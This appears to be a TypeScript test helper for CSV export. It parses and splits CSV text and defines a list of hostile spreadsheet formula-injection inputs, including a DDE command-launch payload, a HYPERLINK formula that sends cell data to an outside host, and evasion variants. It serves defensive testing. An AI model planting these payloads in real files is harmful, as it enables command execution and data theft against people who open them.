/** What tests of tables read them back with. */

export async function whole(made: AsyncIterable<string>): Promise<string> {
  let text = ''
  for await (const piece of made) text += piece
  return text
}

/** Reads what RFC 4180 describes, and nothing more. */
export function readCsv(csv: string): string[][] {
  const rows: string[][] = [[]]
  const cells = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/gy
  for (const [, quoted, plain, end] of csv.replace(/^\ufeff/u, '').matchAll(cells)) {
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain ?? '')
    if (end === '\r\n') rows.push([])
  }
  return rows.slice(0, -1)
}

/**
 * The cells that a spreadsheet makes of a CSV that it separates by this sign. A quotation mark holds a cell together at its beginning
 * alone; elsewhere it is a sign like others.
 */
export function cellsSplitBy(csv: string, sign: string): string[] {
  const cells: string[] = []
  const text = csv.replace(/^\ufeff/u, '')
  let at = 0
  while (at < text.length) {
    let end = at
    if (text[at] === '"') {
      end = at + 1
      while (end < text.length && (text[end] !== '"' || text[end + 1] === '"'))
        end += text[end] === '"' ? 2 : 1
    }
    while (end < text.length && text[end] !== sign && text[end] !== '\n' && text[end] !== '\r') end += 1
    cells.push(text.slice(at, end).replace(/^"/u, '').replaceAll('""', '"'))
    at = end + 1
  }
  return cells
}

/** What has been used against those who open a CSV. */
export const HOSTILE = [
  ...['=1+1', '+1', '-1', '@SUM(A1)', '＝1', '＋1', '－1', '＠SUM(A1)'],
  ...['\t=1', '\r=1', '\n=1', ' =1', '\u00a0=1', '\u200b=1', '\u2060=1', '"=1', "'\t=1"],
  ...[
    `=cmd|' /C calc'!A0`,
    '=HYPERLINK("http://example.org?x="&A1,"Open")',
    '=IMPORTXML("http://example.org")',
  ],
  ...[
    `Officer;=cmd|' /C calc'!A0`,
    'Officer; =1',
    'Officer;"=1',
    'Officer;\u200b@SUM(A1)',
    'a;b;+1',
    'Officer\t=1',
  ],
  ...['First line\n=1', 'First line\r\n=1', 'First line\r-1', 'a;\n=1', '";=1', '"";=1', ';=1', ';;=1'],
]
